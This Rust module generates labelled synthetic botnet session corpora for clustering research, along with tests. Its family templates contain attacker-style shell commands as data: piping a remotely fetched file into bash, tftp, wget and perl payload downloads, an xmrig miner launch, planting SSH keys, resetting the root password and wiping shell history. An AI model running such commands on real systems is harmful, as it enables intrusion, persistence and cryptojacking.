//! Labelled synthetic botnet corpora.
//!
//! Each family owns a pool of source IPs, a set of session templates and an activity
//! schedule. Sessions are drawn from the family's templates with slot placeholders filled at
//! random, so sessions of one family are near-duplicates that differ in hosts, file names
//! and numeric arguments.
//!
//! Template lines may contain `{host}`, `{file}` and `{num}`; `{{` and `}}` stand for
//! literal braces.

use std::collections::BTreeMap;
use std::io::Write;

use rand::seq::IndexedRandom;
use rand::Rng;
use rand_distr::{Distribution, Exp};
use rayon::prelude::*;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::corpus::{session_ids, SessionId, SessionRecord};
use crate::rng;

#[derive(Debug, Error)]
pub enum SynthError {
    #[error("no family specifications given")]
    EmptySpec,
    #[error("unbound slot {{{0}}} in template line {1:?}")]
    UnboundSlot(String, String),
    #[error("family {0}: {1}")]
    InvalidSpec(String, String),
    #[error(transparent)]
    Io(#[from] std::io::Error),
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Interval {
    pub start: u64,
    /// Exclusive.
    pub end: u64,
    /// Mean gap in seconds between sessions of one IP.
    pub mean_gap: f64,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FamilySpec {
    pub id: String,
    /// Each template is the list of command lines of one session.
    pub templates: Vec<Vec<String>>,
    pub ip_pool: usize,
    pub schedule: Vec<Interval>,
    /// Fixed number of sessions per IP, spread uniformly over the schedule. Without it,
    /// sessions follow exponential gaps within each interval.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sessions_per_ip: Option<usize>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionTruth {
    pub id: SessionId,
    pub family: String,
    pub template: usize,
}

#[derive(Debug, Clone, PartialEq)]
pub struct LabeledCorpus {
    /// Ordered by timestamp, then IP.
    pub records: Vec<SessionRecord>,
    /// IP → family id.
    pub truth: BTreeMap<String, String>,
    /// Aligned with `records`.
    pub session_truth: Vec<SessionTruth>,
}

enum Piece<'a> {
    Text(&'a str),
    Brace(char),
    Host,
    File,
    Num,
}

fn parse_template(line: &str) -> Result<Vec<Piece<'_>>, SynthError> {
    let mut pieces = Vec::new();
    let mut rest = line;
    while let Some(pos) = rest.find(['{', '}']) {
        if pos > 0 {
            pieces.push(Piece::Text(&rest[..pos]));
        }
        let tail = &rest[pos..];
        if tail.starts_with("{{") || tail.starts_with("}}") {
            pieces.push(Piece::Brace(tail.as_bytes()[0] as char));
            rest = &tail[2..];
            continue;
        }
        if tail.starts_with('}') {
            pieces.push(Piece::Brace('}'));
            rest = &tail[1..];
            continue;
        }
        let Some(close) = tail.find('}') else {
            pieces.push(Piece::Text(tail));
            rest = "";
            break;
        };
        pieces.push(match &tail[1..close] {
            "host" => Piece::Host,
            "file" => Piece::File,
            "num" => Piece::Num,
            other => return Err(SynthError::UnboundSlot(other.to_string(), line.to_string())),
        });
        rest = &tail[close + 1..];
    }
    if !rest.is_empty() {
        pieces.push(Piece::Text(rest));
    }
    Ok(pieces)
}

const EXTENSIONS: [&str; 4] = [".sh", ".bin", ".x86", ""];

fn fill<R: Rng>(pieces: &[Piece], rng: &mut R) -> String {
    let mut out = String::new();
    for p in pieces {
        match p {
            Piece::Text(t) => out.push_str(t),
            Piece::Brace(c) => out.push(*c),
            Piece::Host => {
                let o: [u8; 4] = std::array::from_fn(|_| rng.random_range(1..=254));
                out.push_str(&format!("{}.{}.{}.{}", o[0], o[1], o[2], o[3]));
            }
            Piece::File => {
                let len = rng.random_range(1..=3);
                for _ in 0..len {
                    out.push(rng.random_range(b'a'..=b'z') as char);
                }
                out.push_str(&rng.random_range(0..1000u32).to_string());
                out.push_str(EXTENSIONS.choose(rng).unwrap());
            }
            Piece::Num => out.push_str(&rng.random_range(1000..65536u32).to_string()),
        }
    }
    out
}

/// Fills the slots of one template line; text outside slots is kept verbatim.
pub fn mutate_template(template: &str, seed: u64) -> Result<String, SynthError> {
    let pieces = parse_template(template)?;
    Ok(fill(&pieces, &mut rng::seeded(seed)))
}

fn validate(spec: &FamilySpec) -> Result<(), SynthError> {
    let bad = |m: &str| Err(SynthError::InvalidSpec(spec.id.clone(), m.to_string()));
    if spec.templates.is_empty() {
        return bad("needs at least one template");
    }
    if spec.ip_pool == 0 || spec.ip_pool > 1 << 16 {
        return bad("ip pool must hold between 1 and 65536 addresses");
    }
    if spec.schedule.is_empty() {
        return bad("needs at least one active interval");
    }
    let mut iv: Vec<&Interval> = spec.schedule.iter().collect();
    iv.sort_by_key(|i| i.start);
    for i in &iv {
        if i.start >= i.end || !(i.mean_gap > 0.0) {
            return bad("intervals need start < end and a positive mean gap");
        }
    }
    if iv.windows(2).any(|w| w[0].end > w[1].start) {
        return bad("intervals overlap");
    }
    for line in spec.templates.iter().flatten() {
        parse_template(line)?;
    }
    Ok(())
}

fn session_times<R: Rng>(spec: &FamilySpec, rng: &mut R) -> Vec<u64> {
    let mut times = Vec::new();
    match spec.sessions_per_ip {
        Some(count) => {
            let total: u64 = spec.schedule.iter().map(|i| i.end - i.start).sum();
            for _ in 0..count {
                let mut off = rng.random_range(0..total);
                for i in &spec.schedule {
                    let len = i.end - i.start;
                    if off < len {
                        times.push(i.start + off);
                        break;
                    }
                    off -= len;
                }
            }
        }
        None => {
            for i in &spec.schedule {
                let gap = Exp::new(1.0 / i.mean_gap).expect("positive rate");
                let mut t = i.start as f64 + gap.sample(rng);
                while t < i.end as f64 {
                    times.push(t as u64);
                    t += gap.sample(rng);
                }
            }
        }
    }
    times.sort_unstable();
    times
}

struct Draft {
    ts: u64,
    ip: String,
    commands: Vec<String>,
    family: String,
    template: usize,
}

/// Generates a corpus from `specs`; family `f` draws its IPs from `10.f.0.0/16`.
pub fn generate(specs: &[FamilySpec], seed: u64) -> Result<LabeledCorpus, SynthError> {
    if specs.is_empty() {
        return Err(SynthError::EmptySpec);
    }
    if specs.len() > 256 {
        return Err(SynthError::InvalidSpec(specs[256].id.clone(), "at most 256 families".into()));
    }
    for s in specs {
        validate(s)?;
    }
    let families: Vec<Vec<Draft>> = specs
        .par_iter()
        .enumerate()
        .map(|(f, spec)| {
            let mut rng = rng::substream(rng::derive_indexed(seed, f as u64), "synth");
            let parsed: Vec<Vec<Vec<Piece>>> = spec
                .templates
                .iter()
                .map(|t| t.iter().map(|l| parse_template(l).expect("validated")).collect())
                .collect();
            let mut drafts = Vec::new();
            for i in 0..spec.ip_pool {
                let ip = format!("10.{f}.{}.{}", i >> 8, i & 255);
                for ts in session_times(spec, &mut rng) {
                    let template = rng.random_range(0..parsed.len());
                    let commands = parsed[template].iter().map(|p| fill(p, &mut rng)).collect();
                    drafts.push(Draft { ts, ip: ip.clone(), commands, family: spec.id.clone(), template });
                }
            }
            drafts
        })
        .collect();

    let mut truth = BTreeMap::new();
    for (f, spec) in specs.iter().enumerate() {
        for i in 0..spec.ip_pool {
            truth.insert(format!("10.{f}.{}.{}", i >> 8, i & 255), spec.id.clone());
        }
    }
    let mut drafts: Vec<Draft> = families.into_iter().flatten().collect();
    // stable: keeps per-IP generation order for equal timestamps
    drafts.sort_by(|a, b| (a.ts, &a.ip).cmp(&(b.ts, &b.ip)));
    let (records, labels): (Vec<SessionRecord>, Vec<(String, usize)>) = drafts
        .into_iter()
        .map(|d| (SessionRecord { ip: d.ip, ts: d.ts, commands: d.commands }, (d.family, d.template)))
        .unzip();
    let session_truth = session_ids(&records)
        .into_iter()
        .zip(labels)
        .map(|(id, (family, template))| SessionTruth { id, family, template })
        .collect();
    Ok(LabeledCorpus { records, truth, session_truth })
}

/// `ip,family` with a header.
pub fn write_truth<W: Write>(mut w: W, corpus: &LabeledCorpus) -> std::io::Result<()> {
    writeln!(w, "ip,family")?;
    for (ip, fam) in &corpus.truth {
        writeln!(w, "{ip},{fam}")?;
    }
    Ok(())
}

/// `session_id,family,template` with a header.
pub fn write_session_truth<W: Write>(mut w: W, corpus: &LabeledCorpus) -> std::io::Result<()> {
    writeln!(w, "session_id,family,template")?;
    for t in &corpus.session_truth {
        writeln!(w, "{},{},{}", t.id, t.family, t.template)?;
    }
    Ok(())
}

const DAY: u64 = 86_400;
const EPOCH: u64 = 1_600_000_000;

fn family(id: &str, templates: &[&[&str]], ip_pool: usize, days: &[(u64, u64)], sessions: usize) -> FamilySpec {
    FamilySpec {
        id: id.to_string(),
        templates: templates.iter().map(|t| t.iter().map(|l| l.to_string()).collect()).collect(),
        ip_pool,
        schedule: days
            .iter()
            .map(|&(a, b)| Interval { start: EPOCH + a * DAY, end: EPOCH + b * DAY, mean_gap: 6.0 * 3600.0 })
            .collect(),
        sessions_per_ip: Some(sessions),
    }
}

/// Six families with pairwise disjoint command vocabularies, 10 IPs each and 20 sessions
/// per IP, active on different days.
pub fn default_spec() -> Vec<FamilySpec> {
    vec![
        family(
            "busybox",
            &[
                &["enable", "system", "shell", "sh", "/bin/busybox ECCHI"],
                &["enable", "system", "shell", "sh", "/bin/busybox MIRAI; /bin/busybox ECCHI"],
                &["sh", "/bin/busybox tftp {host} {file}; /bin/busybox ECCHI"],
                &["enable", "linuxshell", "/bin/busybox head /proc/mounts; /bin/busybox ECCHI"],
            ],
            10,
            &[(0, 3), (12, 14)],
            20,
        ),
        family(
            "miner",
            &[
                &["uname -a", "nproc", "wget http://{host}/{file} -O xmr.tar"],
                &["uname -a", "lscpu | grep Model", "curl -s http://{host}/{file} | bash"],
                &["nproc", "tar xzf xmr.tar", "./xmrig -o pool.{host}:{num} --donate-level 1"],
            ],
            10,
            &[(2, 6)],
            20,
        ),
        family(
            "sshkey",
            &[
                &["cat /etc/passwd", "mkdir .ssh", "echo ssh-rsa AAAAB3{num} >> .ssh/authorized_keys"],
                &["chattr -ia .ssh", "echo ssh-rsa AAAAB3{num} > .ssh/authorized_keys", "chmod 600 .ssh/authorized_keys"],
                &["passwd root", "history -c", "rm -rf .bash_history"],
            ],
            10,
            &[(5, 9), (20, 21)],
            20,
        ),
        family(
            "recon",
            &[
                &["w", "who", "last", "free -m"],
                &["ifconfig", "netstat -tulpn", "route -n"],
                &["df -h", "top -bn1", "ps aux"],
                &["w", "hostname", "uptime"],
                &["free -m", "df -h", "whoami"],
            ],
            10,
            &[(0, 21)],
            20,
        ),
        family(
            "perlbot",
            &[
                &["cd /var/tmp", "lwp-download http://{host}/{file}", "perl {file} {host} {num}"],
                &["cd /dev/shm", "GET http://{host}/{file}", "perl {file}"],
                &["cd /var/tmp", "pkill -9 perl", "nohup perl dc.pl {host} {num}"],
            ],
            10,
            &[(9, 12)],
            20,
        ),
        family(
            "docker",
            &[
                &["python3 -V", "pip3 install requests", "python3 /dev/shm/{file} {host}"],
                &["docker container ls", "docker run -d alpine {file}"],
                &["crontab -l", "crontab -e", "python3 -mhttp.server {num}"],
                &["docker images", "docker pull {host}/{file}", "docker exec -it {num} ash"],
                &["docker container ls", "docker images", "docker run -d alpine {file}"],
                &["python3 -V", "crontab -l", "docker container ls"],
            ],
            10,
            &[(14, 18)],
            20,
        ),
    ]
}

/// Three families for session-level clustering. Within a family the templates share one
/// command skeleton and differ only in which slot kinds fill its arguments.
pub fn three_family_spec() -> Vec<FamilySpec> {
    vec![
        family(
            "busybox",
            &[
                &["enable", "system", "shell", "sh", "/bin/busybox tftp -g {host} -r {file}", "/bin/busybox ECCHI"],
                &["enable", "system", "shell", "sh", "/bin/busybox tftp -g {host} -r {num}", "/bin/busybox ECCHI"],
                &["enable", "system", "shell", "sh", "/bin/busybox tftp -g {file} -r {file}", "/bin/busybox ECCHI"],
            ],
            8,
            &[(0, 4)],
            25,
        ),
        family(
            "miner",
            &[
                &["uname -a", "nproc", "wget http://{host}/{file} -O xmr.tar", "tar xzf xmr.tar", "./xmrig -o {host}:{num}"],
                &["uname -a", "nproc", "wget http://{host}/{num} -O xmr.tar", "tar xzf xmr.tar", "./xmrig -o {file}:{num}"],
                &["uname -a", "nproc", "wget http://{file}/{file} -O xmr.tar", "tar xzf xmr.tar", "./xmrig -o {host}:{host}"],
            ],
            8,
            &[(3, 7)],
            25,
        ),
        family(
            "recon",
            &[
                &["cat /etc/passwd", "w", "free -m", "echo ssh-rsa AAAAB3{num} >> .ssh/authorized_keys", "echo root:{file} | chpasswd"],
                &["cat /etc/passwd", "w", "free -m", "echo ssh-rsa AAAAB3{file} >> .ssh/authorized_keys", "echo root:{num} | chpasswd"],
                &["cat /etc/passwd", "w", "free -m", "echo ssh-rsa AAAAB3{host} >> .ssh/authorized_keys", "echo root:{host} | chpasswd"],
            ],
            8,
            &[(6, 10)],
            25,
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::{tokenize_session, write_records};
    use std::collections::{BTreeSet, HashSet};

    fn one_family() -> FamilySpec {
        FamilySpec {
            id: "0".into(),
            templates: vec![vec!["ls".into()]],
            ip_pool: 2,
            schedule: vec![Interval { start: 100, end: 1000, mean_gap: 50.0 }],
            sessions_per_ip: None,
        }
    }

    #[test]
    fn degenerate_generator() {
        let c = generate(&[one_family()], 3).unwrap();
        assert!(!c.records.is_empty());
        for r in &c.records {
            assert_eq!(tokenize_session(r), vec!["ls"]);
        }
        assert_eq!(c.truth.len(), 2);
        assert!(c.truth.values().all(|f| f == "0"));
        assert_eq!(c.session_truth.len(), c.records.len());
    }

    #[test]
    fn slot_semantics() {
        let out = mutate_template("wget http://{host}/{file}", 1).unwrap();
        let rest = out.strip_prefix("wget http://").unwrap();
        let (host, file) = rest.split_once('/').unwrap();
        assert_eq!(host.split('.').filter(|o| o.parse::<u8>().is_ok()).count(), 4);
        assert!(!file.is_empty());
        assert_eq!(mutate_template("uname -a", 9).unwrap(), "uname -a");
        assert_eq!(mutate_template("echo {{x}} ${num", 9).unwrap(), "echo {x} ${num");
        assert!(matches!(mutate_template("rm {path}", 1), Err(SynthError::UnboundSlot(s, _)) if s == "path"));
    }

    #[test]
    fn seeds_give_distinct_fills() {
        let outs: HashSet<String> =
            (0..1000).map(|s| mutate_template("wget http://{host}/{file} {num}", s).unwrap()).collect();
        assert!(outs.len() >= 999, "{} distinct of 1000", outs.len());
    }

    #[test]
    fn errors() {
        assert!(matches!(generate(&[], 0), Err(SynthError::EmptySpec)));
        let mut f = one_family();
        f.templates.clear();
        assert!(matches!(generate(&[f], 0), Err(SynthError::InvalidSpec(..))));
        let mut f = one_family();
        f.ip_pool = 0;
        assert!(generate(&[f], 0).is_err());
        let mut f = one_family();
        f.schedule.push(Interval { start: 900, end: 2000, mean_gap: 5.0 });
        assert!(matches!(generate(&[f], 0), Err(SynthError::InvalidSpec(..))));
        let mut f = one_family();
        f.templates[0].push("cat {secret}".into());
        assert!(matches!(generate(&[f], 0), Err(SynthError::UnboundSlot(..))));
    }

    fn bytes(c: &LabeledCorpus) -> Vec<u8> {
        let mut buf = Vec::new();
        write_records(&mut buf, &c.records).unwrap();
        write_truth(&mut buf, c).unwrap();
        write_session_truth(&mut buf, c).unwrap();
        buf
    }

    #[test]
    fn deterministic_given_seed() {
        let spec = default_spec();
        assert_eq!(bytes(&generate(&spec, 11).unwrap()), bytes(&generate(&spec, 11).unwrap()));
        assert_ne!(bytes(&generate(&spec, 11).unwrap()), bytes(&generate(&spec, 12).unwrap()));
    }

    #[test]
    fn default_spec_shape_and_schedules() {
        let spec = default_spec();
        assert_eq!(spec.len(), 6);
        assert!(spec.iter().all(|f| (3..=6).contains(&f.templates.len())));
        let c = generate(&spec, 5).unwrap();
        assert_eq!(c.records.len(), 6 * 10 * 20);
        assert_eq!(c.truth.len(), 60);
        let by_id: BTreeMap<&str, &FamilySpec> = spec.iter().map(|f| (f.id.as_str(), f)).collect();
        for r in &c.records {
            let fam = by_id[c.truth[&r.ip].as_str()];
            assert!(fam.schedule.iter().any(|i| i.start <= r.ts && r.ts < i.end));
        }
        assert!(c.records.windows(2).all(|w| w[0].ts <= w[1].ts));
    }

    #[test]
    fn exponential_arrivals_stay_in_intervals() {
        let mut f = one_family();
        f.schedule = vec![
            Interval { start: 0, end: 500, mean_gap: 20.0 },
            Interval { start: 2000, end: 2600, mean_gap: 30.0 },
        ];
        let c = generate(&[f], 8).unwrap();
        assert!(c.records.len() > 20);
        assert!(c.records.iter().all(|r| r.ts < 500 || (2000..2600).contains(&r.ts)));
    }

    fn jaccard(a: &BTreeSet<String>, b: &BTreeSet<String>) -> f64 {
        a.intersection(b).count() as f64 / a.union(b).count().max(1) as f64
    }

    #[test]
    fn vocabularies_disjoint_and_intra_family_more_similar() {
        for spec in [default_spec(), three_family_spec()] {
            let c = generate(&spec, 2).unwrap();
            let sets: Vec<(String, BTreeSet<String>)> = c
                .records
                .iter()
                .map(|r| (c.truth[&r.ip].clone(), tokenize_session(r).into_iter().collect()))
                .collect();
            let (mut intra, mut ni, mut inter, mut ne) = (0.0, 0, 0.0, 0);
            for i in (0..sets.len()).step_by(7) {
                for j in (i + 1..sets.len()).step_by(5) {
                    let s = jaccard(&sets[i].1, &sets[j].1);
                    if sets[i].0 == sets[j].0 {
                        intra += s;
                        ni += 1;
                    } else {
                        inter += s;
                        ne += 1;
                    }
                }
            }
            assert!(intra / ni as f64 > inter / ne as f64);
            // template vocabularies (slots excluded) never cross families
            let mut owner: BTreeMap<String, &str> = BTreeMap::new();
            for f in &spec {
                for line in f.templates.iter().flatten() {
                    for tok in crate::corpus::tokenize(line) {
                        if tok.contains('{') {
                            continue;
                        }
                        let o = owner.entry(tok.clone()).or_insert(&f.id);
                        assert_eq!(*o, f.id.as_str(), "token {tok} shared");
                    }
                }
            }
        }
    }
}
